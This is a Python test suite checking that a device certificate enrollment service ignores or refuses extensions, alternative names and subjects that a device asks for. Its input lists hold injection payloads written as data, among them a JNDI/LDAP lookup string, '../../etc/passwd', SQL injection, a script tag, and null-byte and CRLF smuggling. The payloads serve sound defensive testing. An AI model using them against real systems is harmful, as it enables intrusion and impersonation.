"""What devices ask for and may not have: certificates hold what registry and profile say."""

from dataclasses import dataclass

import pytest
from asn1crypto.core import ObjectIdentifier
from cryptography import x509
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from enroll.failures import EnrollmentError
from enroll.result import Issued, Rejected
from protocols import pkcs10
from tests.support.csr import (
    a_key,
    a_name,
    extension,
    extension_request,
    oid,
    raw_csr,
    sequence,
    some_key_usage,
    tlv,
)
from tests.support.enrollment import Site, a_request, by_code, open_site
from tests.support.lint import check_certificate

# What is asked for under these: a CA's powers, another's names, constraints, addresses and poison.
CHOSEN = {
    "2.5.29.19": x509.BasicConstraints(ca=True, path_length=None).public_bytes(),
    "2.5.29.15": some_key_usage(key_cert_sign=True, crl_sign=True).public_bytes(),
    "2.5.29.37": x509.ExtendedKeyUsage(
        [ExtendedKeyUsageOID.ANY_EXTENDED_KEY_USAGE, ExtendedKeyUsageOID.OCSP_SIGNING]
    ).public_bytes(),
    "2.5.29.17": x509.SubjectAlternativeName([x509.DNSName("admin.example")]).public_bytes(),
    "2.5.29.14": x509.SubjectKeyIdentifier(b"x" * 20).public_bytes(),
    "2.5.29.35": x509.AuthorityKeyIdentifier(b"x" * 20, None, None).public_bytes(),
    "2.5.29.30": x509.NameConstraints([x509.DNSName("example")], None).public_bytes(),
    "2.5.29.36": x509.PolicyConstraints(0, None).public_bytes(),
    "2.5.29.54": x509.InhibitAnyPolicy(0).public_bytes(),
    "1.3.6.1.5.5.7.48.1.5": b"\x05\x00",
    "1.3.6.1.4.1.11129.2.4.3": b"\x05\x00",
    "1.3.6.1.5.5.7.1.24": b"\x30\x03\x02\x01\x05",
}
OTHERS = [
    *[f"2.5.29.{arc}" for arc in (9, 16, 18, 20, 21, 23, 24, 27, 28, 29, 31, 32, 33, 46, 55, 56)],
    *[f"1.3.6.1.5.5.7.1.{arc}" for arc in (1, 2, 3, 7, 8, 11, 14, 26, 28, 29)],
    *[f"1.3.6.1.4.1.311.{arcs}" for arcs in ("20.2", "20.2.3", "21.7", "21.10", "25.2")],
    "1.3.6.1.4.1.11129.2.4.2",
    "2.16.840.1.113730.1.1",
    "2.16.840.1.113730.1.13",
    "1.2.840.113533.7.65.0",
    "1.2.3.4.5.6.7.8.9",
    "2.23.133.6",
]
ASKED = {**CHOSEN, **dict.fromkeys(OTHERS, sequence(tlv(0x0C, b"granted")))}


@dataclass(frozen=True, slots=True, kw_only=True)
class Outcome:
    """What became of a request: a certificate and what its device may have, or a refusal."""

    certificate: x509.Certificate | None
    own_name: x509.GeneralName
    refusal: str = ""

    @property
    def extensions(self) -> dict[str, tuple[bool, x509.ExtensionType]]:
        assert self.certificate is not None, self.refusal
        return {
            each.oid.dotted_string: (each.critical, each.value)
            for each in self.certificate.extensions
        }

    @property
    def names(self) -> list[x509.GeneralName]:
        value = self.extensions["2.5.29.17"][1]
        assert isinstance(value, x509.SubjectAlternativeName)
        return list(value)


async def ask(site: Site, csr: bytes, name: str = "pump-1") -> Outcome:
    """Register a device, and send its request with a good code."""
    device = await site.register(name)
    wish = by_code(name, await site.code(name))
    own_name = x509.UniformResourceIdentifier(f"urn:uuid:{device.device_id}")
    try:
        request = a_request(wish, certificate_request=pkcs10.decode(csr), origin=site.origin(wish))
    except EnrollmentError as refusal:
        return Outcome(certificate=None, own_name=own_name, refusal=refusal.detail)
    result = await site.pipeline.handle(request)
    certificates = await site.certificates(name)
    if isinstance(result, Issued):
        check_certificate(result.record.der)
        return Outcome(certificate=result.record.certificate, own_name=own_name)
    assert isinstance(result, Rejected)
    assert not certificates, "a refusal left a certificate behind"
    return Outcome(certificate=None, own_name=own_name, refusal=result.finding)


def oid_content(dotted: str) -> str:
    """Give the content octets of an OBJECT IDENTIFIER in hex."""
    whole: bytes = ObjectIdentifier(dotted).dump()
    return whole[2:].hex()


@pytest.mark.parametrize("critical", [True, False, None], ids=["critical", "not", "default"])
@pytest.mark.parametrize("dotted", ASKED)
async def test_security_C1_an_extension_that_is_asked_for_changes_nothing(
    dotted: str, *, critical: bool | None
) -> None:
    site = await open_site()
    key = a_key("p-256", 21)
    value = ASKED[dotted]
    asked = extension(oid_content(dotted), value, critical=critical)

    outcome = await ask(site, raw_csr(extension_request(asked), key=key))

    plain = await ask(await open_site(), raw_csr(key=key))
    found = outcome.extensions
    assert found == plain.extensions | {"2.5.29.17": found["2.5.29.17"]}
    assert outcome.names == [outcome.own_name]
    assert found["2.5.29.19"] == (True, x509.BasicConstraints(ca=False, path_length=None))
    assert found["2.5.29.15"] == (True, some_key_usage(digital_signature=True))
    assert found["2.5.29.37"][1] == x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CLIENT_AUTH])


def test_security_C1_as_many_extensions_are_asked_for_as_the_row_wants() -> None:
    assert len(ASKED) >= 40


HOSTS = [
    "admin.example",
    "ADMIN.example",
    "pump-2.example",
    "admin.example.",
    "*.example",
    "*",
    "",
    ".",
    "localhost",
    "127.0.0.1",
    "admin.example\0.attacker.example",
    "admin.example\n",
    " admin.example",
    "xn--dmin-moa.example",
    "\u0430dmin.example",
    "ad\u200bmin.example",
    "x" * 64 + ".example",
    ".".join(["x" * 63] * 8),
    "admin_1.example",
    "-admin.example",
    "admin..example",
    "../../etc/passwd",
    "%s%n{0}${jndi:ldap://192.0.2.1}",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "admin@example",
    "urn:uuid:00000000-0000-0000-0000-000000000000",
    "http://admin.example/",
    "CN=admin",
    "\x7f\x80\xff",
]
# GeneralName's alternatives that hold text: rfc822Name, dNSName, uniformResourceIdentifier, and
# registeredID and iPAddress with octets that are none.
TAGS = (0x81, 0x82, 0x86, 0x87, 0x88)
SINGLE_NAMES = (
    [tlv(tag, host.encode()) for host in HOSTS for tag in TAGS]
    + [
        tlv(0xA0, oid(each), tlv(0xA0, tlv(0x0C, b"admin@example.com")))
        for each in ("2b060104018237140203", "2b0601050507080409", "2b060105050708040b", "2a0304")
    ]
    + [
        tlv(0xA4, x509.Name([x509.NameAttribute(kind, value)]).public_bytes())
        for kind in (NameOID.COMMON_NAME, NameOID.ORGANIZATION_NAME, NameOID.SERIAL_NUMBER)
        for value in ("admin", "pump-2", "x" * 60)
    ]
)
LISTS_OF_NAMES = [
    b"",
    b"".join(SINGLE_NAMES[:20]),
    b"\x82\x01a" * 1_000,
    b"".join(tlv(0x82, f"pump-{number}.example".encode()) for number in range(1_000)),
    *[tlv(tag, bytes(length)) for tag in TAGS for length in (0, 3, 4, 8, 16, 17, 32)],
]


async def test_security_C2_a_name_that_is_asked_for_is_never_issued() -> None:
    site = await open_site()
    asked = [*SINGLE_NAMES, *LISTS_OF_NAMES]
    assert len(asked) >= 200
    issued = 0

    for number, names in enumerate(asked):
        name = f"unit-{number}"
        request = extension_request(extension("551d11", sequence(names)))
        csr = raw_csr(
            request, key=a_key("p-256", 100 + number), subject=a_name(name).public_bytes()
        )

        outcome = await ask(site, csr, name)

        if outcome.certificate is not None:
            issued += 1
            assert outcome.names == [outcome.own_name], names
            (common_name,) = outcome.certificate.subject
            assert common_name.value == name

    assert issued > len(asked) / 2, "what is harmless should be ignored, not refused"


async def test_security_C2_a_name_of_another_device_is_refused_or_ignored() -> None:
    site = await open_site()
    await site.enroll("victim", serial_number="SN-7")
    subjects = [
        [(NameOID.COMMON_NAME, "victim")],
        [(NameOID.COMMON_NAME, "unit"), (NameOID.COMMON_NAME, "victim")],
        [(NameOID.COMMON_NAME, "unit"), (NameOID.SERIAL_NUMBER, "SN-7")],
        [(NameOID.SERIAL_NUMBER, "SN-7")],
    ]

    for number, attributes in enumerate(subjects):
        subject = x509.Name([x509.NameAttribute(kind, value) for kind, value in attributes])
        csr = raw_csr(key=a_key("p-256", 400 + number), subject=subject.public_bytes())

        outcome = await ask(site, csr, f"unit-{number}")

        assert outcome.certificate is None, attributes


def rdn(*attributes: tuple[str, int, bytes]) -> bytes:
    return tlv(0x31, *[sequence(oid(kind), tlv(tag, value)) for kind, tag, value in attributes])


CN, SERIAL, OTHER = "550403", "550405", "2a03040506"
UTF8, PRINTABLE, TELETEX, IA5, UNIVERSAL, BMP, OCTETS = 0x0C, 0x13, 0x14, 0x16, 0x1C, 0x1E, 0x04
SUBJECTS = [
    b"",
    *[rdn((CN, tag, b"NAME")) for tag in (UTF8, PRINTABLE, TELETEX, IA5, OCTETS)],
    rdn((CN, BMP, "NAME".encode("utf-16-be"))),
    rdn((CN, UNIVERSAL, "NAME".encode("utf-32-be"))),
    rdn((CN, BMP, b"odd")),
    rdn((CN, UTF8, b"\xff\xfe")),
    rdn((CN, UTF8, b"")),
    rdn((CN, UTF8, b"NAME\0admin")),
    rdn((CN, UTF8, b"NAME\r\nX: y")),
    rdn((CN, UTF8, b"NAME ")),
    rdn((CN, UTF8, b" NAME")),
    rdn((CN, UTF8, "NAME\u202eadmin".encode())),
    rdn((CN, UTF8, "N\u0410ME".encode())),
    rdn((CN, UTF8, b"x" * 65)),
    rdn((CN, UTF8, b"x" * 60_000)),
    rdn((CN, UTF8, b"admin")),
    rdn((CN, UTF8, b"NAME"), (CN, UTF8, b"admin")),
    rdn((CN, UTF8, b"NAME"), (SERIAL, PRINTABLE, b"SN-1")),
    rdn((CN, UTF8, b"NAME"), (OTHER, UTF8, b"admin")),
    rdn((CN, UTF8, b"NAME")) + rdn((CN, UTF8, b"admin")),
    rdn((CN, UTF8, b"NAME")) + rdn((CN, UTF8, b"NAME")),
    rdn((CN, UTF8, b"NAME")) + rdn((SERIAL, PRINTABLE, b"SN_1*")),
    rdn((CN, UTF8, b"NAME")) + rdn((SERIAL, UTF8, "SN\u00e9".encode())),
    rdn((CN, UTF8, b"NAME")) * 100,
    *[
        rdn((kind, UTF8, value)) + rdn((CN, UTF8, b"NAME"))
        for kind in ("550406", "55040a", "55040b", "2a864886f70d010901", "0992268993f22c640119")
        for value in (b"DE", b"admin", b"x" * 200, b"\0", b"%s${jndi:x}")
    ],
    tlv(0x31),
    rdn((CN, UTF8, b"NAME")) + tlv(0x31),
    tlv(0x31, sequence(oid(CN))),
    tlv(0x31, sequence(oid(CN), tlv(UTF8, b"NAME"), tlv(UTF8, b"admin"))),
]


async def test_security_C3_a_subject_that_is_asked_for_is_never_issued() -> None:
    site = await open_site()
    assert len(SUBJECTS) >= 50
    issued = 0

    for number, subject in enumerate(SUBJECTS):
        name = f"N{number:03}"  # Of four letters, so that lengths stay right.
        subject = subject.replace(b"NAME", name.encode())  # noqa: PLW2901 - names its own device
        key = a_key("p-256", 500 + number)

        outcome = await ask(site, raw_csr(key=key, subject=sequence(subject)), name)

        if outcome.certificate is not None:
            issued += 1
            assert outcome.certificate.subject == a_name(name), subject
            assert outcome.names == [outcome.own_name]

    assert issued > len(SUBJECTS) / 3, "what is harmless should be ignored, not refused"
